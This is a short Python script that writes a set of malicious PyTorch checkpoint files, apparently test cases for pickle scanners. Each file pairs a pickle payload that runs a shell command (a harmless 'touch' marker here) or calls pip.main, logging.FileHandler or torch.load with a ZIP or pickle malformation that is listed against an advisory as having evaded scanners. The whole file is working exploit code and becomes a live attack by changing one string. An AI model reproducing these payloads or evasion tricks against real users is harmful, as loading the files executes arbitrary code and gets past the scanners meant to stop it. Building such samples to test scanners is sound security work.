"""Writes bypass_*: checkpoints whose payload scanners of pickles have missed. Python 3, no libraries.

GHSA-7q5r-7gvp-wc82  the name in an entry's own header differs from that in the directory
GHSA-w8jq-xcqf-f792  flag bits are set that some zip readers mind and PyTorch does not
GHSA-769v-p64c-89pr  the payload is in a pickle whose name does not end as pickles do
GHSA-655q-fx9r-782v  the payload is pip.main, which was on no list of dangerous names
CVE-2026-56304       the payload is logging.FileHandler
modelscan issue 354  an entry that cannot be read lies before the payload
modelscan issue 338  the payload is torch.utils.collect_env.run
aisbom pull 88       the pickle is damaged after the payload, which runs before
"""
import struct
import zlib



def pickle(name, argument=b"X" + struct.pack("<I", 30) + b"touch /tmp/geofix-pwned-marker"):
    return b"\x80\x02}X\x01\x00\x00\x00ac" + name + argument + b"\x85Rs."


def archive(entries, local_names={}, flags={}, local_flags={}, crcs={}):
    data = b""
    directory = b""
    for name, content in entries:
        crc = crcs.get(name, zlib.crc32(content))
        own = local_names.get(name, name).encode()
        own_flags = flags.get(name, local_flags.get(name, 0))
        sizes = struct.pack("<III", crc, len(content), len(content))
        directory += (
            b"PK\x01\x02"
            + struct.pack("<HHHHHH", 20, 20, flags.get(name, 0), 0, 0, 0)
            + sizes
            + struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, len(data))
            + name.encode()
        )
        data += (
            b"PK\x03\x04"
            + struct.pack("<HHHHH", 20, own_flags, 0, 0, 0)
            + sizes
            + struct.pack("<HH", len(own), 0)
            + own
            + content
        )
    end = struct.pack("<HHHHIIH", 0, 0, len(entries), len(entries), len(directory), len(data), 0)
    return data + directory + b"PK\x05\x06" + end


SYSTEM = b"posix\nsystem\n"


def save(name, pickled, extra=(), **options):
    entries = [*extra, ("a/data.pkl", pickled), ("a/version", b"3\n")]
    with open("bypass_" + name + ".pt", "wb") as out:
        out.write(archive(entries, **options))


save("local_name", pickle(SYSTEM), local_names={"a/data.pkl": "a/date.pkl"})
save("flag_bits", pickle(SYSTEM), flags={"a/data.pkl": 1})
save("local_flag_bits", pickle(SYSTEM), local_flags={"a/data.pkl": 0x21})
save(
    "hidden_pickle",
    pickle(b"torch\nload\n", b"X\x08\x00\x00\x00config.p"),
    extra=[("a/config.p", pickle(SYSTEM))],
)
save("pip_main", pickle(b"pip\nmain\n"))
save("file_handler", pickle(b"logging\nFileHandler\n", b"X\x1c\x00\x00\x00/tmp/geofix-pwned-marker.log"))
save("collect_env", pickle(b"torch.utils.collect_env\nrun\n"))
save(
    "unreadable_entry_first",
    pickle(SYSTEM),
    extra=[("a/aaa", b"aaa")],
    crcs={"a/aaa": 1},
    local_names={"a/aaa": "a/aab"},
)
save("damaged_after", pickle(SYSTEM)[:-2] + b"\xff\xff")
save("damaged_directory", pickle(SYSTEM), crcs={"a/data.pkl": 7})
